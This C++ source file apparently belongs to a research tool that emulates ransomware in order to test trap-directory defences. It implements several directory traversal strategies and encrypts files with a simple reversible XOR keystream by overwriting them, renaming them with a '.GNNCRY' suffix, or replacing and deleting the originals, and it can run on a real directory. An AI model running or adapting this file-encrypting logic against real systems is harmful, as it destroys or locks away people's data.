#include "mtfs/attack.hpp"

#include <algorithm>
#include <deque>

#include <json.hpp>

#include "mtfs/techniques.hpp"

using nlohmann::json;

namespace mtfs {

const char* to_string(Traversal t) {
    switch (t) {
    case Traversal::SortedDFS: return "sorted_dfs";
    case Traversal::UnsortedDFS: return "unsorted_dfs";
    case Traversal::BFS: return "bfs";
    case Traversal::PreListThenEncrypt: return "pre_list";
    }
    return "?";
}

const char* to_string(EncryptionMode m) {
    switch (m) {
    case EncryptionMode::InPlaceOverwrite: return "in_place";
    case EncryptionMode::OverwriteThenRename: return "overwrite_rename";
    case EncryptionMode::CreateNewDeleteOld: return "create_delete";
    }
    return "?";
}

const char* to_string(AttackTermination t) {
    switch (t) {
    case AttackTermination::Completed: return "Completed";
    case AttackTermination::BudgetExhausted: return "BudgetExhausted";
    case AttackTermination::PathTooLong: return "PathTooLong";
    case AttackTermination::Crashed: return "Crashed";
    }
    return "?";
}

std::string keystream_transform(const std::string& data, std::uint64_t key) {
    std::string out = data;
    for (std::size_t i = 0; i < out.size(); ++i) {
        std::uint8_t k = static_cast<std::uint8_t>(mix64(key ^ (i / 8)) >> ((i % 8) * 8));
        // never map a byte to itself, so "encrypted" content always differs
        out[i] = static_cast<char>(static_cast<std::uint8_t>(out[i]) ^ (k | 1));
    }
    return out;
}

namespace {

std::string read_all(FsClient& client, const std::string& path, Status& st) {
    std::string content;
    constexpr std::uint64_t kChunk = 1 << 16;
    for (;;) {
        auto r = client.read(path, content.size(), kChunk);
        if (r.status != Status::Ok) {
            st = r.status;
            return content;
        }
        content += r.data;
        if (r.data.size() < kChunk) break;
    }
    st = Status::Ok;
    return content;
}

} // namespace

std::optional<std::uint64_t> encrypt_file(FsClient& client, const std::string& path,
                                          EncryptionMode mode, const std::string& rename_suffix,
                                          std::uint64_t key) {
    if (client.open(path) != Status::Ok) return std::nullopt;
    Status st = Status::Ok;
    std::string content = read_all(client, path, st);
    if (st != Status::Ok) return std::nullopt;
    std::string enc = keystream_transform(content, key);

    switch (mode) {
    case EncryptionMode::InPlaceOverwrite:
        if (client.write(path, 0, enc) != Status::Ok) return std::nullopt;
        return enc.size();
    case EncryptionMode::OverwriteThenRename:
        if (client.write(path, 0, enc) != Status::Ok) return std::nullopt;
        if (client.rename(path, path + rename_suffix) != Status::Ok) return std::nullopt;
        return enc.size();
    case EncryptionMode::CreateNewDeleteOld: {
        std::string sibling = path + rename_suffix;
        if (client.create(sibling) != Status::Ok) return std::nullopt;
        if (!enc.empty() && client.write(sibling, 0, enc) != Status::Ok) return std::nullopt;
        if (client.unlink(path) != Status::Ok) return std::nullopt;
        return enc.size();
    }
    }
    return std::nullopt;
}

namespace {

struct AttackRun {
    FsClient& client;
    const AttackProfile& profile;
    AttackProgress* progress;
    std::chrono::steady_clock::time_point deadline;
    AttackReport rep;
    bool stopped = false;

    bool check_budget() {
        if (stopped) return false;
        if (std::chrono::steady_clock::now() >= deadline) {
            rep.terminated_by = AttackTermination::BudgetExhausted;
            stopped = true;
            return false;
        }
        return true;
    }

    void fail_path(Status st) {
        // a path the OS refuses to resolve is treated as fatal, matching
        // samples without error handling
        if (st == Status::PathTooLong) {
            rep.terminated_by = AttackTermination::PathTooLong;
            stopped = true;
        }
    }

    bool passes_filter(const std::string& path) {
        if (!profile.type_filter) return true;
        auto head = client.read(path, 0, 8);
        if (head.status != Status::Ok) return false;
        auto type = detect_type(head.data);
        return type && profile.type_filter->count(*type);
    }

    void process_file(const std::string& path) {
        if (!check_budget()) return;
        rep.files_visited++;
        if (progress) progress->files_visited.fetch_add(1);
        if (!passes_filter(path)) return;
        auto written = encrypt_file(client, path, profile.encryption_mode,
                                    profile.rename_suffix, profile.key);
        if (written) {
            rep.files_encrypted++;
            rep.bytes_written += *written;
            if (progress) progress->files_encrypted.fetch_add(1);
        }
    }

    bool too_deep(std::uint32_t depth) const {
        return profile.max_depth && depth > *profile.max_depth;
    }

    void sorted_dfs(const std::string& dir, std::uint32_t depth) {
        if (stopped || too_deep(depth) || !check_budget()) return;
        auto listing = client.list_dir(dir);
        if (listing.status != Status::Ok) {
            fail_path(listing.status);
            return;
        }
        auto entries = listing.entries;
        std::sort(entries.begin(), entries.end(),
                  [](const DirEntry& a, const DirEntry& b) { return a.name < b.name; });
        std::vector<std::string> files;
        for (const auto& e : entries) {
            if (stopped) return;
            std::string path = dir.empty() ? e.name : dir + "/" + e.name;
            if (e.kind == NodeKind::RealDir || e.kind == NodeKind::TrapDir) {
                sorted_dfs(path, depth + 1);
            } else {
                files.push_back(path);
            }
        }
        for (const auto& f : files) {
            if (stopped) return;
            process_file(f);
        }
    }

    void unsorted_dfs(const std::string& dir, std::uint32_t depth) {
        if (stopped || too_deep(depth) || !check_budget()) return;
        auto listing = client.list_dir(dir);
        if (listing.status != Status::Ok) {
            fail_path(listing.status);
            return;
        }
        for (const auto& e : listing.entries) {
            if (stopped) return;
            std::string path = dir.empty() ? e.name : dir + "/" + e.name;
            if (e.kind == NodeKind::RealDir || e.kind == NodeKind::TrapDir) {
                unsorted_dfs(path, depth + 1);
            } else {
                process_file(path);
            }
        }
    }

    void bfs() {
        std::deque<std::pair<std::string, std::uint32_t>> queue{{"", 0}};
        while (!queue.empty() && !stopped && check_budget()) {
            auto [dir, depth] = queue.front();
            queue.pop_front();
            if (too_deep(depth)) continue;
            auto listing = client.list_dir(dir);
            if (listing.status != Status::Ok) {
                fail_path(listing.status);
                continue;
            }
            for (const auto& e : listing.entries) {
                if (stopped) break;
                std::string path = dir.empty() ? e.name : dir + "/" + e.name;
                if (e.kind == NodeKind::RealDir || e.kind == NodeKind::TrapDir) {
                    queue.emplace_back(path, depth + 1);
                } else {
                    process_file(path);
                }
            }
        }
    }

    void collect(const std::string& dir, std::uint32_t depth, std::vector<std::string>& out) {
        if (stopped || too_deep(depth) || !check_budget()) return;
        auto listing = client.list_dir(dir);
        if (listing.status != Status::Ok) {
            fail_path(listing.status);
            return;
        }
        auto entries = listing.entries;
        std::sort(entries.begin(), entries.end(),
                  [](const DirEntry& a, const DirEntry& b) { return a.name < b.name; });
        for (const auto& e : entries) {
            if (stopped) return;
            std::string path = dir.empty() ? e.name : dir + "/" + e.name;
            if (e.kind == NodeKind::RealDir || e.kind == NodeKind::TrapDir) {
                collect(path, depth + 1, out);
            } else {
                out.push_back(path);
            }
        }
    }
};

} // namespace

AttackReport run_attack(const AttackProfile& profile, FsClient& client, AttackProgress* progress) {
    auto start = std::chrono::steady_clock::now();
    AttackRun run{client, profile, progress, start + profile.budget};

    auto root = client.list_dir("");
    if (root.status != Status::Ok) {
        run.rep.terminated_by = AttackTermination::Crashed;
        run.rep.elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(
            std::chrono::steady_clock::now() - start);
        return run.rep;
    }

    switch (profile.traversal) {
    case Traversal::SortedDFS:
        run.sorted_dfs("", 0);
        break;
    case Traversal::UnsortedDFS:
        run.unsorted_dfs("", 0);
        break;
    case Traversal::BFS:
        run.bfs();
        break;
    case Traversal::PreListThenEncrypt: {
        std::vector<std::string> files;
        run.collect("", 0, files);
        for (const auto& f : files) {
            if (run.stopped) break;
            run.process_file(f);
        }
        break;
    }
    }

    run.rep.elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(
        std::chrono::steady_clock::now() - start);
    return run.rep;
}

AttackReport run_attack(const AttackProfile& profile, const std::string& root) {
    DirectFs fs(root);
    return run_attack(profile, fs);
}

std::string profile_to_json(const AttackProfile& p) {
    json j;
    j["traversal"] = to_string(p.traversal);
    j["mode"] = to_string(p.encryption_mode);
    if (p.type_filter) {
        json filt = json::array();
        for (FileType t : *p.type_filter) filt.push_back(to_string(t));
        j["type_filter"] = filt;
    }
    j["budget_ms"] = p.budget.count();
    j["rename_suffix"] = p.rename_suffix;
    if (p.max_depth) j["max_depth"] = *p.max_depth;
    j["key"] = p.key;
    return j.dump(2);
}

AttackProfile profile_from_json(const std::string& text) {
    json j;
    try {
        j = json::parse(text);
    } catch (const json::parse_error& e) {
        throw std::invalid_argument(std::string("profile parse error: ") + e.what());
    }
    AttackProfile p;
    std::string trav = j.value("traversal", "sorted_dfs");
    if (trav == "sorted_dfs") p.traversal = Traversal::SortedDFS;
    else if (trav == "unsorted_dfs") p.traversal = Traversal::UnsortedDFS;
    else if (trav == "bfs") p.traversal = Traversal::BFS;
    else if (trav == "pre_list") p.traversal = Traversal::PreListThenEncrypt;
    else throw std::invalid_argument("unknown traversal: " + trav);

    std::string mode = j.value("mode", "in_place");
    if (mode == "in_place") p.encryption_mode = EncryptionMode::InPlaceOverwrite;
    else if (mode == "overwrite_rename") p.encryption_mode = EncryptionMode::OverwriteThenRename;
    else if (mode == "create_delete") p.encryption_mode = EncryptionMode::CreateNewDeleteOld;
    else throw std::invalid_argument("unknown mode: " + mode);

    if (j.contains("type_filter")) {
        std::set<FileType> filt;
        for (const auto& s : j["type_filter"]) {
            auto t = file_type_from_string(s.get<std::string>());
            if (!t) throw std::invalid_argument("unknown file type in filter");
            filt.insert(*t);
        }
        p.type_filter = filt;
    }
    p.budget = std::chrono::milliseconds(j.value("budget_ms", 30000));
    if (p.budget.count() <= 0) throw std::invalid_argument("budget must be > 0");
    p.rename_suffix = j.value("rename_suffix", std::string(".GNNCRY"));
    if (p.encryption_mode != EncryptionMode::InPlaceOverwrite && p.rename_suffix.empty()) {
        throw std::invalid_argument("rename_suffix must be nonempty for this mode");
    }
    if (j.contains("max_depth")) p.max_depth = j["max_depth"].get<std::uint32_t>();
    p.key = j.value("key", static_cast<std::uint64_t>(0x6b6579));
    return p;
}

std::string report_to_json(const AttackReport& r) {
    json j;
    j["files_visited"] = r.files_visited;
    j["files_encrypted"] = r.files_encrypted;
    j["bytes_written"] = r.bytes_written;
    j["elapsed_ms"] = r.elapsed.count();
    j["terminated_by"] = to_string(r.terminated_by);
    return j.dump(2);
}

} // namespace mtfs
